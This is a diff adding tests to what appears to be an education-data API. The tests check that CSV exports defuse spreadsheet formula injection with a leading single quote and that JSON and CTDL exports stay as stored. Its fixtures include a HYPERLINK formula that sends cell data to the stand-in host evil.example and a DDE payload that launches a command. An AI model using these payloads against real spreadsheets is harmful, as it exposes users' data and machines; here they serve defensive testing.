@@ -167,6 +167,64 @@ describe("exports: GET /exports", () => {
   });
 });
 
+describe("exports: spreadsheet formulas in CSV", () => {
+  // Each title starts with a character a spreadsheet reads as the start of a formula.
+  const FORMULAS: Record<string, string> = {
+    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3",
+    "@": "@SUM(1,1)",
+    tab: "\t=1+1",
+    "carriage return": "\r=1+1",
+    "full-width =": "\uFF1D1+1",
+  };
+  let t: TestApp;
+  const get = (query: string) => t.http.get(`/api/v1/exports${query}`).set(bearer(t.keys.live));
+  const csvRecords = (text: string) => parse(text, { columns: true }) as Record<string, string>[];
+
+  before(async () => {
+    t = await createTestApp();
+    await loadInstitutions(t.database.prisma, "live");
+    const items = Object.values(FORMULAS).map((title, index) => ({ institutionId: "inst_122977", code: `F ${index}`, title, credits: 0, level: "lower" }));
+    items.push({ institutionId: "inst_122977", code: "=1+1", title: "Calculus - part 1", credits: 3, level: "lower" });
+    const courses = await t.http.post("/api/v1/courses").set(bearer(t.keys.live)).send(items);
+    expect(courses.status).to.equal(201);
+    const created = await t.http.post("/api/v1/equivalencies").set(bearer(t.keys.live)).send({
+      sourceCourseId: courses.body.data[0].id, targetInstitutionId: "inst_110635", targetCode: "@X 1", status: "accepted",
+      decidedBy: "=Registrar", policyBasis: "-policy",
+    });
+    expect(created.status).to.equal(201);
+  });
+  after(() => t.close());
+
+  it("prefixes every text cell a spreadsheet would run as a formula with a single quote", async () => {
+    const response = await get("?resource=courses&format=csv");
+    await expectContract(response, 200);
+    const titles = new Map(csvRecords(response.text).map((record) => [record.code, record]));
+    Object.entries(FORMULAS).forEach(([leading, title], index) => {
+      expect(titles.get(`F ${index}`)?.title, leading).to.equal(`'${title}`);
+    });
+    // A code is a text cell like any other; a dash inside a cell and numbers stay as they are.
+    expect(titles.get("'=1+1")).to.include({ title: "Calculus - part 1", credits: "3" });
+    expect(titles.get("F 0")).to.include({ credits: "0", version: "1" });
+    const equivalencies = csvRecords((await get("?resource=equivalencies&format=csv")).text);
+    expect(equivalencies[0]).to.include({ targetCode: "'@X 1", decidedBy: "'=Registrar", policyBasis: "'-policy", version: "1" });
+  });
+
+  it("leaves JSON and CTDL exactly as stored", async () => {
+    const json = await get("?resource=courses&format=json");
+    await expectContract(json, 200);
+    const stored = new Map((json.body as { code: string; title: string }[]).map((course) => [course.code, course.title]));
+    Object.values(FORMULAS).forEach((title, index) => expect(stored.get(`F ${index}`)).to.equal(title));
+    expect(stored.get("=1+1")).to.equal("Calculus - part 1");
+    const ctdl = JSON.parse((await get("?format=ctdl")).text)["@graph"][0];
+    expect(ctdl["ceterms:transferValueFrom"][0]["ceterms:name"]["en-US"]).to.equal(FORMULAS["="]);
+    expect(ctdl["ceterms:transferValueFor"][0]["ceterms:codedNotation"]).to.equal("@X 1");
+    expect(ctdl).to.include({ "ce:decidedBy": "=Registrar" });
+    expect(ctdl["ceterms:description"]["en-US"]).to.equal("-policy");
+  });
+});
+
 describe("exports: CSV columns", () => {
   it("flatten names nested fields with dots and keeps lists as JSON", () => {
     const flat = flatten({ id: "eq_1", sourceCourse: { code: "CS 55", institution: { id: "inst_1", system: null } }, tags: ["a"] });
